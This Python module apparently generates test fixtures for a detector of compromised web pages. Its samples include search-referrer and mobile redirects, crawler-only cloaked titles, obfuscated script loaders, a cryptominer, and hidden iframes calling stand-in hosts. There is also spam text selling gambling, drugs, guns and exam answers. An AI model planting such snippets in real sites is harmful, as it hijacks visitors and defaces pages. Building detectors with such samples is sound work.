"""Pages that someone else writes on: jumps by referrer, loaders in disguise, titles in codes."""

from __future__ import annotations

from base64 import b64encode

from .checks_frames import ARTICLE, HOME, article, home, script, single

JUMP = "top.location.href='https://www.vns-5858.example/?s=1';"
LOADER = '<script src="https://js.tj-cnzz51.example/h.js"></script>'
ENCODED = b64encode(JUMP.encode()).decode()
# Names of gambling in Chinese, as hexadecimal and decimal references write them.
SELLS = "澳门新葡京娱乐场-百家乐开户送彩金"


def hexadecimal(text: str) -> str:
    return "".join(f"&#x{ord(c):x};" for c in text)


def decimal(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def escaped(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


def codes(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


def put(name: str, html: str, *seen: str, url: str = HOME) -> None:
    """A page and the observations of `injection` on it."""
    single(f"injected/{name}", url, html, injection=list(seen))


def jumps() -> None:
    put(
        "engines_in_an_array",
        home(
            script(
                "var ref=document.referrer.toLowerCase(),se=['baidu.','sogou.','so.com','bing.','toutiao.','sm.cn'];"
                "for(var i=0;i<se.length;i++){if(ref.indexOf(se[i])>-1){" + JUMP + "break;}}"
            )
        ),
        "script_trick",
    )
    put(
        "engines_in_an_expression_and_replace",
        home(
            script(
                r"if(/(baidu|sogou|so|bing|sm|toutiao)\.(com|cn)/i.test(document.referrer)){window.location.replace('//www.tyc-8899.example');}"
            )
        ),
        "script_trick",
    )
    put(
        "frame_only_for_those_who_searched",
        home(
            script(
                'var r=document.referrer;if(r.match(/baidu|sogou|360|bing/)){document.write(\'<iframe src="https://www.hg-live.example/" style="position:fixed;left:0;top:0;width:100%;height:100%;z-index:99999"></iframe>\');}'
            )
        ),
        "foreign_script",
        "script_trick",
    )
    put(
        "once_for_each_visitor_from_engines",
        home(
            script(
                "function gc(n){return document.cookie.indexOf(n)>=0}if(!gc('hv=1')&&document.referrer.indexOf('baidu.com')>0){document.cookie='hv=1;path=/';"
                + JUMP
                + "}"
            )
        ),
        "script_trick",
    )
    put(
        "telephones_by_the_width_of_their_screen",
        home(
            script(
                "if(screen.width<780||/mobile/i.test(navigator.userAgent)){location.href='https://h5.bob-qipai.example/down';}"
            )
        ),
        "script_trick",
    )
    put(
        "telephones_in_the_head_of_an_article",
        article(
            head=script(
                "var ua=navigator.userAgent;if(ua.indexOf('Android')>-1||ua.indexOf('iPhone')>-1){location.replace('http://wap.cp-77.example/');}"
            )
        ),
        "script_trick",
        url=ARTICLE,
    )
    put(
        "title_only_for_spiders_of_engines",
        home(
            "",
            title=decimal(SELLS),
            head=script(
                "if(!/baiduspider|sogou|360spider|bingbot/i.test(navigator.userAgent)){document.title='澄湖县人民政府';}"
            ),
        ),
        "page_defaced",
        "script_trick",
    )


def loaders() -> None:
    put(
        "loader_in_hexadecimal",
        home(
            script(f'window["{escaped("document")}"]["{escaped("write")}"]("{escaped(LOADER)}");')
        ),
        "script_trick",
    )
    put(
        "loader_in_codes",
        home(script(f"eval(String.fromCharCode({codes(JUMP)}));")),
        "script_trick",
    )
    put(
        "loader_in_codes_that_is_written",
        home(script(f"document.write(String.fromCharCode({codes(LOADER)}));")),
        "foreign_script",
        "script_trick",
    )
    put(
        "expression_in_base64_by_another_name",
        home(script(f"var _0x=window['at'+'ob'];window['ev'+'al'](_0x('{ENCODED}'));")),
        "script_trick",
    )
    put(
        "frame_in_base64",
        home(
            f'<iframe src="data:text/html;base64,{b64encode(f"<script>{JUMP}</script>".encode()).decode()}" width="0" height="0"></iframe>'
        ),
        "script_trick",
    )
    put(
        "numbers_that_are_run",
        home(
            script(
                f"var a=[{codes(JUMP)}],s='';for(var i in a)s+=String.fromCharCode(a[i]);eval(s);"
            )
        ),
        "script_trick",
    )
    put(
        "strange_jsonp",
        home('<script src="http://api.ip-tool9.example/q?format=jsonp&callback=jump"></script>'),
        "foreign_script",
    )
    put(
        "element_made_and_put_in_the_head",
        home(
            script(
                "(function(){var n=document.createElement('script');n.async=1;n.src='https://cdn.push-ads77.example/i.js';document.head.appendChild(n)})();"
            )
        ),
        "foreign_script",
    )
    put(
        "miner",
        home(
            '<script src="https://coin-mine.example/lib/m.min.js"></script><script>new CoinHive.Anonymous("k").start()</script>'
        ),
        "foreign_script",
    )
    put(
        "film_of_a_stranger",
        home('<embed src="http://www.tan-chuang.example/pop.swf" width="1" height="1">'),
        "foreign_script",
    )
    put(
        "frame_of_no_size",
        home('<iframe src="http://count.xx-hits.example/c.htm" width=0 height=0></iframe>'),
        "foreign_script",
    )
    put("script_before_the_page", LOADER + home(""), "foreign_script")


def titles() -> None:
    put("title_in_hexadecimal_references", home("", title=hexadecimal(SELLS)), "page_defaced")
    put(
        "only_the_keywords_in_references",
        home(
            "",
            head=f'<meta name="keywords" content="{hexadecimal("pk10开奖,幸运飞艇计划,时时彩平台")}">',
        ),
        "page_defaced",
    )
    put(
        "only_the_description_is_changed",
        home(
            "",
            head='<meta name="description" content="澳门金沙娱乐场提供真人百家乐、电子游艺、体育投注，注册即送彩金，官方网址随时更新。">',
        ),
        "page_defaced",
    )
    put(
        "copies_of_watches_in_japanese",
        article(
            title="スーパーコピー時計 激安通販 ブランドコピー 代引き",
            text="<p>スーパーコピー時計専門店。ロレックスコピー、ブランドコピーを激安で販売しております。送料無料、代引き対応。</p>",
        ),
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "pills_in_english",
        article(
            title="Buy Viagra Online Without Prescription - Cheap Cialis",
            text="<p>Order cheap viagra and cialis online, no prescription needed, fast delivery, best casino bonus.</p>",
        ),
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "credit_turned_into_cash",
        article(
            title="信用卡套现_花呗套现秒到账_24小时在线",
            text="<p>专业信用卡套现、花呗提现，无视逾期，秒到账，加微信咨询，另收银行卡四件套。</p>",
        ),
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "weapons_for_sale",
        article(
            title="出售仿真枪气枪货到付款_枪支弹药专卖网",
            text="<p>本店出售气枪、仿真枪、铅弹，支持货到付款，诚信经营，联系客服。</p>",
        ),
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "answers_of_examinations_for_sale",
        article(
            title="考试答案出售_助考包过_代考",
            text="<p>考前出售答案，代考替考，包过不过退款，加QQ咨询，先过后付。</p>",
        ),
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "films_for_adults_in_a_row",
        article(
            title="国产精品久久久久久_亚洲无码在线观看_成人av免费看",
            text="<p>成人视频免费在线观看，无码高清，每日更新，点击进入播放。</p>",
        ),
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "pwned_in_turkish",
        "<html><head><title>HackeD By Kara-Sahin</title></head><body bgcolor=black><center><font color=red>Hacked By Kara-Sahin<br>Site Security is 0 | TurkHackTeam</font></center></body></html>",
        "page_defaced",
    )
    put(
        "name_of_the_site_is_for_sale",
        "<html><head><meta charset='utf-8'><title>chenghu-xian.invalid 域名出售</title></head><body><h1>chenghu-xian.invalid</h1><p>您正在访问的域名可以转让！</p><p>This domain is for sale. 联系QQ：10000</p></body></html>",
        "page_defaced",
    )
    put(
        "sent_on_to_a_place_of_games",
        '<html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url=https://www.xpj-cc.example/"><title>新葡京娱乐场官网_新葡京棋牌手机版下载</title></head><body></body></html>',
        "page_defaced",
    )


def build() -> None:
    jumps()
    loaders()
    titles()
